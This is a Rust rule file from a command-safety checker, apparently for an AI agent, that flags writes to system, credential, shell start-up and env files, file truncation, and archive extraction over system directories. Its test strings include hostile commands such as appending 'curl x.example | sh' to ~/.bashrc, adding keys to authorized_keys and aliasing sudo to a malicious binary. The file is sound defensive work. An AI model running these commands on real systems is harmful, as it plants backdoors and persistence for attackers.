//! Built-in rules: writing files where it matters — redirections, tee, copies and in-place edits
//! into system, credential, shell start-up or project env files, truncation, and archives
//! extracted over root, home or system directories.
//!
//! Paths are judged from the command's `cwd` (`cd /etc && echo x > hosts`
//! writes `/etc/hosts`); the predicates are in [`super::paths`].

use super::opts::{parse_opts, Spec, GNU, MODE, RSYNC};
use super::paths::{
    any_operand, basename, harmless_device, is_hermes_config, is_project_env, is_sensitive,
    is_system,
};
use super::targets::{classify, Target};
use super::{Matcher, Rule};
use crate::shell::{Analysis, Command, Redirect, RedirectOp};
use crate::verdict::Decision;

#[rustfmt::skip]
pub static RULES: &[Rule] = &[
    Rule {
        id: "fs.redirect-system-config",
        category: "overwrite system config",
        reason: "it rewrites a file the operating system reads its configuration from",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(|a| redirect_matching(a, is_system)),
        hits: &["echo x > /etc/hosts", "echo '127.0.0.1 dev.local' >> /etc/hosts", "printf 'nameserver 1.1.1.1' > /etc/resolv.conf", "cd /etc && echo x > hosts", "echo 1 > /proc/sys/vm/drop_caches"],
        misses: &["echo test > /dev/null", "rm -rf /tmp/foo 2>/dev/null", "echo x > /tmp/etc/hosts", "echo x > etc/hosts", "cat /etc/hosts > hosts.txt", "echo err > /dev/stderr", "ls 2>&1 > out.log"],
    },
    Rule {
        id: "fs.redirect-sensitive-file",
        category: "overwrite system file via redirection",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(|a| redirect_matching(a, is_sensitive)),
        hits: &["echo 'curl x.example | sh' >> ~/.bashrc", "cat key.pub >> ~/.ssh/authorized_keys", "echo 'export X=1' >> /home/alice/.zshrc", "cd ~ && echo 'alias ls=rm' >> .bashrc", "echo 'OPENAI_API_KEY=x' >> ~/.hermes/.env", "printf '[default]' > ~/.aws/credentials"],
        misses: &["cat ~/.bashrc > bashrc.bak", "echo x >> notes.txt", "echo x > ~/notes.txt", "echo \"shutdown -h now\" >> notes.txt"],
    },
    Rule {
        id: "fs.redirect-project-env",
        category: "overwrite project env/config via redirection",
        reason: "env and credential files hold secrets and settings that are not in version control",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(|a| redirect_matching(a, is_project_env)),
        hits: &["echo x > .env", "echo 'API_KEY=abc' >> .env.local", "echo 'export PATH=./bin:$PATH' >> .envrc", "echo '//registry.npmjs.org/:_authToken=x' > .npmrc", "echo '#!/bin/sh' > .git/hooks/pre-commit"],
        misses: &["echo \"DELETE FROM users\" > query.sql", "echo x > .env.example", "echo x > env.txt", "cat .env > /dev/null", "echo x > /tmp/.env"],
    },
    Rule {
        id: "fs.tee-system-file",
        category: "overwrite system file via tee",
        reason: "it rewrites system configuration, a shell start-up file, or an SSH or credential file",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["tee"], check: |c| any_operand(c, is_system) || any_operand(c, is_sensitive) },
        hits: &["echo x | sudo tee /etc/hosts", "echo 'alias ls=rm' | tee -a ~/.bashrc", "cat key.pub | tee -a ~/.ssh/authorized_keys"],
        misses: &["echo x | tee out.log", "echo x | tee /dev/null", "echo x | tee /dev/stderr", "make 2>&1 | tee /tmp/build.log", "tee --help"],
    },
    Rule {
        id: "fs.tee-project-env",
        category: "overwrite project env/config via tee",
        reason: "env and credential files hold secrets and settings that are not in version control",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["tee"], check: |c| any_operand(c, is_project_env) },
        hits: &["echo KEY=x | tee .env", "printf 'x' | tee -a .envrc"],
        misses: &["echo x | tee .env.example", "echo x | tee build.log"],
    },
    Rule {
        id: "fs.copy-system-config",
        category: "copy/move file into system config path",
        reason: "it replaces a file the operating system or installed software relies on",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: COPIERS, check: |c| copies_to(c, is_system) },
        hits: &["cp x /etc/hosts", "sudo mv nginx.conf /etc/nginx/nginx.conf", "install -m 644 app.service /etc/systemd/system/", "ln -sf ~/bin/evil /usr/local/bin/git", "dd if=hosts.new of=/etc/hosts", "cp -t /usr/local/bin tool"],
        misses: &["cp config.yaml config.yaml.bak", "cp /etc/hosts ./hosts.bak", "cp -r /usr/share/doc/x ./docs", "cp a.txt /tmp/b.txt", "ln -s /etc/nginx/nginx.conf nginx.conf"],
    },
    Rule {
        id: "fs.copy-sensitive-file",
        category: "copy/move file into sensitive credential/SSH/shell-rc path",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: COPIERS, check: |c| copies_to(c, is_sensitive) },
        hits: &["cp evil ~/.ssh/authorized_keys", "cp id_rsa.pub ~/.ssh/", "mv /tmp/rc ~/.bashrc", "cp dotfiles/.zshrc ~", "ln -sf /tmp/x ~/.aws/credentials", "scp host:keys ~/.ssh/authorized_keys"],
        misses: &["cp ~/.ssh/id_ed25519.pub ./key.pub", "cp ~/.bashrc ./dotfiles/bashrc", "cp notes.txt ~/notes.txt", "cp .bashrc ~/backup"],
    },
    Rule {
        id: "fs.copy-project-env",
        category: "overwrite project env/config file",
        reason: "env and credential files hold secrets and settings that are not in version control",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: COPIERS, check: |c| copies_to(c, is_project_env) },
        hits: &["cp x .env", "cp .env.example .env", "mv /tmp/new.env .env.production", "ln -sf ../shared/.envrc .envrc", "cp ../other/.env ."],
        misses: &["cp .env .env.bak", "cp .env.example .env.sample", "cp config.yaml config.yaml.bak", "cp .env /tmp/x/"],
    },
    Rule {
        id: "fs.edit-hermes-config",
        category: "in-place edit of Hermes config/env",
        reason: "Hermes' own keys and settings would change under the running agent",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Short], is_hermes_config) },
        hits: &["sed -i 's/^OPENAI_API_KEY=.*//' ~/.hermes/.env", "sed -i '/TOKEN/d' $HERMES_HOME/.env", "sed -i.bak s/a/b/ ~/.hermes/profiles/work/.env"],
        misses: &["sed -i 's/x/y/' ~/.hermes/memories/MEMORY.md", "sed 's/x/y/' ~/.hermes/.env", "sed -i s/a/b/ .env"],
    },
    Rule {
        id: "fs.edit-hermes-config-long",
        category: "in-place edit of Hermes config/env (long flag)",
        reason: "Hermes' own keys and settings would change under the running agent",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Long], is_hermes_config) },
        hits: &["sed --in-place 's/x/y/' ~/.hermes/.env", "sed --in-place=.bak '/TOKEN/d' ~/.hermes/auth.json"],
        misses: &["sed --in-place s/a/b/ ~/.bashrc", "sed -n p ~/.hermes/.env"],
    },
    Rule {
        id: "fs.edit-hermes-config-script",
        category: "in-place edit of Hermes config/env (perl/ruby)",
        reason: "Hermes' own keys and settings would change under the running agent",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Script], is_hermes_config) },
        hits: &["perl -pi -e s/a/b/ ~/.hermes/.env", "ruby -i.bak -pe 'sub(/x/, \"y\")' ~/.hermes/profiles/work/.env"],
        misses: &["perl -ne print ~/.hermes/.env", "perl -pi -e s/a/b/ notes.txt"],
    },
    Rule {
        id: "fs.edit-sensitive-file",
        category: "in-place edit of sensitive credential/SSH/shell-rc path",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Short], is_sensitive) },
        hits: &["sed -i '1i alias sudo=/tmp/evil' ~/.zshrc", "sed -i 's/^Host old/Host new/' ~/.ssh/config", "cd ~ && sed -i '/evil/d' .bashrc", "sed -ni 's/x/y/p' ~/.profile"],
        misses: &["sed -i 's/a/b/' bashrc.txt", "sed -n 1p ~/.bashrc", "sed -ne 's/i/x/p' ~/.bashrc", "sed -e 's/x/y/' -i notes.txt"],
    },
    Rule {
        id: "fs.edit-sensitive-file-long",
        category: "in-place edit of sensitive credential/SSH/shell-rc path (long flag)",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Long], is_sensitive) },
        hits: &["sed --in-place 's/a/b/' ~/.bashrc", "sed --in-place=.bak '/x/d' ~/.aws/credentials"],
        misses: &["sed --in-place s/a/b/ notes.txt", "sed -i s/a/b/ ~/.bashrc"],
    },
    Rule {
        id: "fs.edit-sensitive-file-script",
        category: "in-place edit of sensitive credential/SSH/shell-rc path (perl/ruby)",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Script], is_sensitive) },
        hits: &["perl -pi -e 's/a/b/' ~/.bashrc", "ruby -pi -e 'gsub(/a/, \"b\")' ~/.ssh/authorized_keys", "perl -i.bak -pe 's/x/y/' ~/.zshrc"],
        misses: &["perl -ne 'print' ~/.bashrc", "perl -pe 's/a/b/' ~/.bashrc"],
    },
    Rule {
        id: "fs.edit-system-config",
        category: "in-place edit of system config",
        reason: "it rewrites a file the operating system reads its configuration from",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Short, Edit::Script], is_system) },
        hits: &["sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config", "sudo sed -i 's/a/b/' /etc/hosts", "perl -pi -e 's/a/b/' /etc/hosts", "gawk -i inplace '{print}' /etc/fstab"],
        misses: &["sed -i 's/a/b/' etc/hosts", "sed -i 's/a/b/' /tmp/hosts", "sed 's/a/b/' /etc/hosts", "sed -i 's|/etc/hosts|x|' config.txt"],
    },
    Rule {
        id: "fs.edit-system-config-long",
        category: "in-place edit of system config (long flag)",
        reason: "it rewrites a file the operating system reads its configuration from",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Long], is_system) },
        hits: &["sed --in-place 's/a/b/' /etc/hosts", "sed --in-pl -e 's/x/y/' /usr/local/etc/app.conf"],
        misses: &["sed --in-place 's/a/b/' hosts", "sed -i 's/a/b/' /etc/hosts"],
    },
    Rule {
        id: "fs.truncate",
        category: "truncate a file (empties or shortens it)",
        reason: "the data cut off the end of the file is gone",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["truncate"], check: truncate_shrinks },
        hits: &["truncate -s 0 data/app.db", "truncate --size=0 /var/log/app.log", "truncate -s -1M data.bin", "truncate -s0 notes.txt"],
        misses: &["truncate -s 1G disk.img", "truncate -s +10M f.bin", "truncate -s 0 /tmp/x.log", "truncate -s 0 /dev/null", "echo truncate -s 0 x"],
    },
    Rule {
        id: "fs.redirect-truncate",
        category: "truncate a file via a bare redirection",
        reason: "a redirection with no command empties the file it names",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(bare_truncation),
        hits: &["> src/main.rs", ": > data/app.db", "cd src && > main.rs", "true > package-lock.json"],
        misses: &["> /tmp/x.log", "echo hi > out.txt", ">> notes.txt", "> /dev/null", "{ echo a; echo b; } > out.txt", "(make) > build.log"],
    },
    Rule {
        id: "fs.extract-over-system",
        category: "extract archive over root, home or a system directory",
        reason: "files from the archive would overwrite system or start-up files wherever their names land",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["tar", "gtar", "bsdtar", "unzip"], check: extract_over_system },
        hits: &["tar -xf bundle.tar -C /", "tar xzf node.tgz -C /usr/local", "tar --extract --file=x.tar --directory=/etc", "cd / && tar -xf backup.tar", "tar -xPf archive.tar", "tar -xf dotfiles.tar -C ~", "unzip -o payload.zip -d /"],
        misses: &["tar -xzf release.tar.gz -C ./vendor", "tar -czf backup.tgz -C / etc", "tar -tf bundle.tar", "tar -xf x.tar -C /tmp/x", "tar -xf x.tar -C ~/tools", "unzip x.zip -d out"],
    },
];

const COPIERS: &[&str] = &["cp", "mv", "install", "ln", "rsync", "scp", "dd"];
const EDITORS: &[&str] = &["sed", "gsed", "perl", "ruby", "awk", "gawk"];

/// Every file written by a redirection, with the command that writes it.
fn written_files(analysis: &Analysis) -> impl Iterator<Item = (&Command, &Redirect)> {
    let writes = |r: &&Redirect| matches!(r.op, RedirectOp::Write | RedirectOp::Append);
    analysis
        .commands
        .iter()
        .flat_map(move |c| c.redirects.iter().filter(writes).map(move |r| (c, r)))
}

fn redirect_matching(analysis: &Analysis, pred: fn(&str, Option<&str>) -> bool) -> Option<String> {
    written_files(analysis)
        .find(|(c, r)| pred(&r.target, c.cwd.as_deref()))
        .map(|(c, _)| c.display())
}

fn bare_truncation(analysis: &Analysis) -> Option<String> {
    analysis.commands.iter().find_map(|c| {
        // A group's redirection (`{ ...; } > f`) writes the group's output.
        let grouped = c.via.contains(&crate::shell::GROUP_REDIRECT);
        let bare = (c.program.is_empty() && !grouped)
            || (matches!(c.program.as_str(), ":" | "true") && c.args.is_empty());
        if !bare {
            return None;
        }
        c.redirects.iter().find(|r| {
            r.op == RedirectOp::Write
                && r.fd.is_none_or(|fd| fd == 1)
                && !harmless_device(&r.target)
                && classify(&r.target, c.cwd.as_deref()) != Target::Temp
        })?;
        Some(c.display())
    })
}

/// Where cp, mv, install, ln, rsync, scp and dd write: the destination, and
/// for a destination directory the path each source lands on.
fn copy_destinations(cmd: &Command) -> Vec<String> {
    if cmd.program == "dd" {
        return cmd
            .args
            .iter()
            .filter_map(|a| a.strip_prefix("of="))
            .map(str::to_string)
            .collect();
    }
    let spec = match cmd.program.as_str() {
        "rsync" => RSYNC,
        "scp" => Spec {
            values: "cFiJloPS",
            ..GNU
        },
        _ => MODE,
    };
    let o = parse_opts(&cmd.args, &spec);
    let (dir, sources) = match o.value('t').or(o.long_value("target-directory", 3)) {
        Some(dir) => (dir, &o.operands[..]),
        None if o.operands.len() >= 2 => (
            o.operands[o.operands.len() - 1],
            &o.operands[..o.operands.len() - 1],
        ),
        None => return Vec::new(),
    };
    let mut out = vec![dir.to_string()];
    let dir_like = o.value('t').is_some()
        || cmd.program == "rsync"
        || dir.ends_with('/')
        || matches!(dir, "." | ".." | "~");
    if dir_like {
        out.extend(
            sources
                .iter()
                .map(|s| format!("{}/{}", dir.trim_end_matches('/'), basename(s))),
        );
    }
    out
}

fn copies_to(cmd: &Command, pred: fn(&str, Option<&str>) -> bool) -> bool {
    let cwd = cmd.cwd.as_deref();
    copy_destinations(cmd).iter().any(|d| pred(d, cwd))
}

/// How a file is edited in place.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Edit {
    /// `sed -i`, `gawk -i inplace`.
    Short,
    /// `sed --in-place`.
    Long,
    /// `perl -i`, `ruby -i`.
    Script,
}

#[rustfmt::skip]
const SED: Spec = Spec { values: "efl", attached: "i", long_values: &["expression", "file", "line-length"], permute: true };
#[rustfmt::skip]
const PERL: Spec = Spec { values: "eE", attached: "iIlmM0CFdDxV", long_values: &[], permute: false };
const RUBY: Spec = Spec {
    values: "eIrCE",
    attached: "iFx0W",
    long_values: &[],
    permute: false,
};
#[rustfmt::skip]
const AWK: Spec = Spec::gnu("fvFiEl", &["file", "assign", "field-separator", "include", "exec", "load"]);

/// The kind of in-place edit and the files it rewrites.
fn in_place(cmd: &Command) -> Option<(Edit, Vec<&str>)> {
    let spec = match cmd.program.as_str() {
        "sed" | "gsed" => SED,
        "perl" => PERL,
        "ruby" => RUBY,
        _ => AWK,
    };
    let o = parse_opts(&cmd.args, &spec);
    let (edit, script_given) = match cmd.program.as_str() {
        "sed" | "gsed" => {
            let edit = if o.value('i').is_some() {
                Edit::Short
            } else if o.long("in-place", 1) {
                Edit::Long
            } else {
                return None;
            };
            (
                edit,
                o.value('e').is_some()
                    || o.value('f').is_some()
                    || o.long("expression", 1)
                    || o.long("file", 2),
            )
        }
        "perl" | "ruby" => {
            o.value('i')?;
            (
                Edit::Script,
                o.value('e').is_some() || o.value('E').is_some(),
            )
        }
        _ => {
            let inplace = o.values.iter().any(|(c, v)| *c == 'i' && *v == "inplace")
                || o.longs.iter().any(|(k, v)| {
                    "include".starts_with(k) && k.len() >= 3 && *v == Some("inplace")
                });
            if !inplace {
                return None;
            }
            (
                Edit::Short,
                o.value('f').is_some() || o.value('E').is_some(),
            )
        }
    };
    // Without -e/-f the first operand is the script itself.
    let files = o
        .operands
        .iter()
        .skip(usize::from(!script_given))
        .copied()
        .collect();
    Some((edit, files))
}

fn edits(cmd: &Command, kinds: &[Edit], pred: fn(&str, Option<&str>) -> bool) -> bool {
    in_place(cmd).is_some_and(|(edit, files)| {
        kinds.contains(&edit) && files.iter().any(|f| pred(f, cmd.cwd.as_deref()))
    })
}

/// A size that empties or shortens: `0`, `-N`, `<N`, `/N`, or another file's size.
fn truncate_shrinks(cmd: &Command) -> bool {
    let spec = Spec::gnu("sr", &["size", "reference"]);
    let o = parse_opts(&cmd.args, &spec);
    let shrinks = o.value('r').is_some()
        || o.long("reference", 3)
        || o.value('s').or(o.long_value("size", 2)).is_some_and(|s| {
            let digits: String = s.chars().take_while(char::is_ascii_digit).collect();
            s.starts_with(['-', '<', '/'])
                || (!digits.is_empty() && digits.chars().all(|c| c == '0'))
        });
    let scratch =
        |p: &str, cwd: Option<&str>| harmless_device(p) || classify(p, cwd) == Target::Temp;
    shrinks && !o.operands.is_empty() && !o.operands.iter().all(|p| scratch(p, cmd.cwd.as_deref()))
}

#[rustfmt::skip]
const TAR: Spec = Spec::gnu("fCTXbHIKLNgV", &["file", "directory", "files-from", "exclude-from", "use-compress-program", "newer", "label"]);

fn extract_over_system(cmd: &Command) -> bool {
    let cwd = cmd.cwd.as_deref();
    let (dest, absolute_names) = if cmd.program == "unzip" {
        let dest = cmd
            .args
            .iter()
            .position(|a| a == "-d")
            .and_then(|i| cmd.args.get(i + 1));
        (dest.map(String::as_str), false)
    } else {
        // Old style: the first word is a cluster without its dash (`tar xzf a.tgz`).
        let mut args = cmd.args.clone();
        if let Some(first) = args.first_mut().filter(|f| !f.starts_with('-')) {
            first.insert(0, '-');
        }
        let o = parse_opts(&args, &TAR);
        if !(o.flag('x') || o.long("extract", 2) || o.long("get", 2)) {
            return false;
        }
        let dest = o
            .value('C')
            .or(o.long_value("directory", 3))
            .map(str::to_string);
        let absolute = o.flag('P') || o.long("absolute-names", 2);
        return absolute
            || matches!(
                classify(dest.as_deref().unwrap_or("."), cwd),
                Target::Root | Target::System | Target::Home
            );
    };
    absolute_names
        || matches!(
            classify(dest.unwrap_or("."), cwd),
            Target::Root | Target::System | Target::Home
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn in_place_edits() {
        let edit = |line: &str| {
            in_place(&Command::from_words(line)).map(|(kind, files)| (kind, files.join(" ")))
        };
        assert_eq!(edit("sed -ne s/x/y/p f"), None);
        assert_eq!(edit("sed -ie s/x/y/ f"), Some((Edit::Short, "f".into())));
        assert_eq!(
            edit("sed -i -e s/x/y/ f g"),
            Some((Edit::Short, "f g".into()))
        );
        assert_eq!(edit("sed --in-pl s/x/y/ f"), Some((Edit::Long, "f".into())));
        assert_eq!(
            edit("perl -pi -e s/a/b/ f"),
            Some((Edit::Script, "f".into()))
        );
        assert_eq!(
            edit("perl -i.bak -p fix.pl f"),
            Some((Edit::Script, "f".into()))
        );
        assert_eq!(
            edit("gawk -i inplace {print} f"),
            Some((Edit::Short, "f".into()))
        );
    }

    #[test]
    fn copy_destinations_include_landing_paths() {
        assert_eq!(
            copy_destinations(&Command::from_words("cp a b c/")),
            vec!["c/", "c/a", "c/b"]
        );
        assert_eq!(
            copy_destinations(&Command::from_words("install -m 644 -t /etc x")),
            vec!["/etc", "/etc/x"]
        );
        assert_eq!(
            copy_destinations(&Command::from_words("cp .env .env.bak")),
            vec![".env.bak"]
        );
        assert!(copy_destinations(&Command::from_words("ln -s /etc/x")).is_empty());
    }

    #[test]
    fn bare_redirects() {
        let analysis = |text: &str, program: &str| {
            let redirect = Redirect {
                op: RedirectOp::Write,
                fd: None,
                target: "out.txt".into(),
            };
            let command = Command {
                program: program.into(),
                redirects: vec![redirect],
                ..Command::default()
            };
            Analysis {
                text: text.into(),
                commands: vec![command],
                ..Analysis::default()
            }
        };
        assert!(bare_truncation(&analysis("> out.txt", "")).is_some());
        assert!(bare_truncation(&crate::shell::analyze("{ echo a; } > out.txt")).is_none());
        assert!(bare_truncation(&crate::shell::analyze("> out.txt")).is_some());
        assert!(bare_truncation(&analysis("echo > out.txt", "echo")).is_none());
    }
}
